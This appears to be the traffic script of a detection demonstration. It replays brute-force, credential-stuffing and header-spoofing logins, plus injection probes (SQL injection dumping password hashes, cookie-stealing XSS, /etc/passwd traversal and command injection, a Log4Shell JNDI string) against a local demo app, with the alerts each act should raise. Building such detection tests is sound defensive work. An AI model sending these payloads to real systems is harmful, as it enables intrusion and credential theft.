/** The demonstration's traffic: attacks, and ordinary users in between. Speaks real HTTP, paths unaltered. */
import { request as httpRequest } from 'node:http';
import { users } from '../src/users.mjs';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

/** Addresses of the documentation ranges (RFC 5737): nobody's. */
export const ADDRESSES = {
  guesser: '203.0.113.66',
  stuffer: '198.51.100.9',
  forger: '203.0.113.77',
  prober: '198.51.100.23',
  botnet: Array.from({ length: 14 }, (_, index) => `192.0.2.${index + 10}`),
  office: '198.51.100.200',
};

/**
 * The acts of the demonstration. `alerts` names every alert an act must raise, as `rule entity`; an act
 * without alerts is ordinary traffic. `{fingerprint}` stands for an entity shown as a pseudonym.
 */
export function acts(visit) {
  const login = (address, email, password, headers = {}) =>
    visit(address, { method: 'POST', path: '/login', body: { email, password }, headers });
  const user = (name) => users.find(({ email }) => email.startsWith(`${name}@`));

  return [
    {
      title: 'ordinary users log in, mistype, search, look at their orders',
      alerts: [],
      async play() {
        for (const [index, { email, password }] of users.slice(3, 8).entries()) {
          const address = index < 3 ? ADDRESSES.office : `203.0.113.${100 + index}`;
          if (index % 2 === 0) await login(address, email, 'mistyped-once');
          const { token } = await login(address, email, password);
          await visit(address, { path: "/search?q=O'Brien" });
          await visit(address, { path: '/search?q=rock+%26+roll%3B+live' });
          await visit(address, { path: '/search?q=select+union+jacket' });
          await visit(address, {
            path: `/orders/${index + 4}`,
            headers: { authorization: `Bearer ${token}` },
          });
        }
      },
    },
    {
      title: `password guessing from one address (${ADDRESSES.guesser}) against alice, until it works`,
      alerts: [
        { rule: 'brute_force_client', entity: ADDRESSES.guesser },
        { rule: 'success_after_failures', entity: ADDRESSES.guesser },
      ],
      async play() {
        const { email, password } = user('alice');
        for (let round = 0; round < 12; round += 1)
          await login(ADDRESSES.guesser, email, `guess-${round}`);
        await login(ADDRESSES.guesser, email, password);
      },
    },
    {
      title: `password guessing from ${ADDRESSES.botnet.length} addresses against bob`,
      alerts: [{ rule: 'brute_force_account' }],
      async play() {
        const { email } = user('bob');
        for (const address of ADDRESSES.botnet) await login(address, email, 'summer-2026');
      },
    },
    {
      title: `credential stuffing from ${ADDRESSES.stuffer}`,
      alerts: [{ rule: 'credential_stuffing', entity: ADDRESSES.stuffer }],
      async play() {
        for (let index = 0; index < 24; index += 1) {
          await login(
            ADDRESSES.stuffer,
            `leaked-${index}@mail.example`,
            `leaked-password-${index}`,
          );
        }
      },
    },
    {
      title: `password guessing from ${ADDRESSES.forger} behind forged X-Forwarded-For headers`,
      alerts: [
        { rule: 'brute_force_client', entity: ADDRESSES.forger },
        { rule: 'client_address_spoofing', entity: ADDRESSES.forger },
      ],
      async play() {
        const { email } = user('carol');
        for (let round = 0; round < 14; round += 1) {
          const forged = round % 2 === 0 ? `10.20.30.${round}` : `"'; DROP TABLE x;--", 127.0.0.1`;
          await login(ADDRESSES.forger, email, `forged-${round}`, { 'x-forwarded-for': forged });
        }
      },
    },
    {
      title: `injection probes from ${ADDRESSES.prober}`,
      alerts: [{ rule: 'injection_probing', entity: ADDRESSES.prober }],
      async play() {
        for (const path of [
          "/search?q=1'%20OR%20'1'='1'--",
          '/search?q=x%27%20UNION%20SELECT%20email,password_hash%20FROM%20users--',
          '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
          '/static/../../../../etc/passwd',
          '/search?q=%3Bcat%20/etc/passwd',
          '/search?q=${jndi:ldap://198.51.100.23/a}',
        ]) {
          await visit(ADDRESSES.prober, { path });
        }
      },
    },
    {
      title: 'ordinary users again, and an administrator at work',
      alerts: [],
      async play() {
        const { email, password } = user('grace');
        const { token } = await login(ADDRESSES.office, email, password);
        await visit(ADDRESSES.office, {
          path: '/admin/users',
          headers: { authorization: `Bearer ${token}` },
        });
        await visit(ADDRESSES.office, { path: '/products' });
        await visit('203.0.113.150', { path: '/orders/2' });
      },
    },
  ];
}

/** A client that connects to its own line of the edge; answers with the parsed body, or an empty object. */
export function visitor(edge) {
  return async (address, { method = 'GET', path, body, headers = {} }) => {
    const line = new URL(await edge.lineOf(address));
    const payload = body === undefined ? undefined : JSON.stringify(body);
    const text = await new Promise((resolve, reject) => {
      const request = httpRequest(
        {
          host: line.hostname,
          port: line.port,
          method,
          path,
          headers: {
            'user-agent': BROWSER,
            ...(payload === undefined
              ? {}
              : {
                  'content-type': 'application/json',
                  'content-length': Buffer.byteLength(payload),
                }),
            ...headers,
          },
        },
        (response) => {
          let received = '';
          response.setEncoding('utf8');
          response.on('data', (chunk) => (received += chunk));
          response.on('end', () => resolve(received));
          response.on('error', reject);
        },
      );
      request.on('error', reject);
      request.end(payload);
    });
    try {
      return JSON.parse(text);
    } catch {
      return {};
    }
  };
}
